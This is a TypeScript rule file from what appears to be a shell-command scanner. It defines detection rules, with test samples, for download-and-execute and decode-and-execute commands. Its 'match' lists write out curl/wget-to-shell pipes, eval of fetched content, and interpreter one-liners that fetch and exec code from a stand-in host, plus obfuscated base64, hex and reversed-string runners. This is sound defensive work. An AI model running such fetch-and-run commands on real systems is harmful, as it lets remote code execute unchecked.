import { define } from './rule.ts'
import type { CommandRule } from './rule.ts'

/** Rules on downloads, and on decoded texts, that are run. */
export const RUNNING_RULES: readonly CommandRule[] = [
  define({
    id: 'CMD-040',
    title: ['What is downloaded goes straight into an interpreter', '下载内容直接交给解释器执行'],
    kind: 'download-and-run',
    severity: 'high',
    confidence: 'medium',
    attack: ['T1105', 'T1059.004'],
    match: [
      'curl -fsSL http://203.0.113.7/a.sh | bash',
      'wget -qO- http://203.0.113.7/a.sh | sudo sh -s -- -x',
      'curl http://203.0.113.7/a | base64 -d | sh',
      'curl -s https://example.com/i.py | python3 -',
    ],
    clean: [
      'curl -fsSL https://example.com/key.asc | gpg --dearmor -o /usr/share/keyrings/a.gpg',
      'curl https://example.com/a.json | jq .',
    ],
  }),
  define({
    id: 'CMD-041',
    title: ['What is downloaded is run without a file', '下载内容不落盘直接执行'],
    kind: 'download-and-run',
    severity: 'high',
    confidence: 'medium',
    attack: ['T1105', 'T1059.004'],
    match: [
      'sh -c "$(curl -fsSL http://203.0.113.7/a.sh)"',
      '. <(curl -s http://203.0.113.7/a)',
      'eval "$(wget -qO- http://203.0.113.7/a)"',
      'a=$(curl -s http://203.0.113.7/a); eval "$a"',
      'bash <(curl -s http://203.0.113.7/a)',
      'sh -c "$(dig +short txt a.example.com)"',
    ],
    clean: ['version=$(curl -s https://example.com/latest)', 'diff <(curl -s https://example.com/a) a'],
  }),
  define({
    id: 'CMD-042',
    title: ['A file is downloaded and run', '下载文件后执行'],
    kind: 'download-and-run',
    severity: 'high',
    confidence: 'medium',
    attack: ['T1105'],
    match: [
      'wget http://203.0.113.7/x && chmod +x x && ./x',
      'curl -o /tmp/a http://203.0.113.7/a; chmod 755 /tmp/a; nohup /tmp/a &',
      'cd /tmp; wget -O a.sh http://203.0.113.7/a.sh; sh a.sh',
    ],
    clean: [
      'curl -fsSLo a.tar.gz https://example.com/a.tar.gz && tar xf a.tar.gz',
      'wget https://example.com/a.deb && dpkg -i a.deb',
    ],
  }),
  define({
    id: 'CMD-043',
    title: ['A program of one line fetches and runs', '单行程序下载并执行'],
    kind: 'download-and-run',
    severity: 'high',
    confidence: 'medium',
    attack: ['T1105', 'T1059'],
    match: [
      `python3 -c 'import urllib.request as u;exec(u.urlopen("http://203.0.113.7/a").read())'`,
      `perl -MLWP::Simple -e 'eval get("http://203.0.113.7/a")'`,
      `php -r 'eval(file_get_contents("http://203.0.113.7/a"));'`,
    ],
    clean: [`python3 -c 'import urllib.request;print(urllib.request.urlopen("http://localhost/health").status)'`],
  }),
  define({
    id: 'CMD-050',
    title: ['An encoded text is decoded and run', '编码内容被解码并执行'],
    kind: 'encoded',
    severity: 'high',
    confidence: 'high',
    attack: ['T1027', 'T1140'],
    match: [
      'echo ZWNobyBoaQo= | base64 -d | sh',
      'echo 6563686f206869 | xxd -r -p | bash',
      "printf '\\x65\\x63\\x68\\x6f\\x20\\x68\\x69' | sh",
      'eval "$(echo ih ohce | rev)"',
      'bash -c "{echo,ZWNobyBoaQo=}|{base64,-d}|{bash,-i}"',
      'openssl base64 -d <<< ZWNobyBoaQo= | sh',
    ],
    clean: ['echo ZWNobyBoaQo= | base64 -d > /etc/motd', 'echo hi | sh', 'eval export LANG=$(grep x "$F" | tail -n1)'],
  }),
  define({
    id: 'CMD-051',
    title: ['A program decodes what it runs', '程序解码后执行'],
    kind: 'encoded',
    severity: 'high',
    confidence: 'medium',
    attack: ['T1027', 'T1140'],
    match: [
      `python3 -c "exec(__import__('base64').b64decode('cHJpbnQoMSkKcHJpbnQoMik='))"`,
      `perl -MMIME::Base64 -e 'eval decode_base64("cHJpbnQgMQ==")'`,
      `php -r 'eval(base64_decode("ZWNobyAxOw=="));'`,
    ],
    clean: [`python3 -c "import base64;print(base64.b64decode('aGk='))"`],
  }),
]
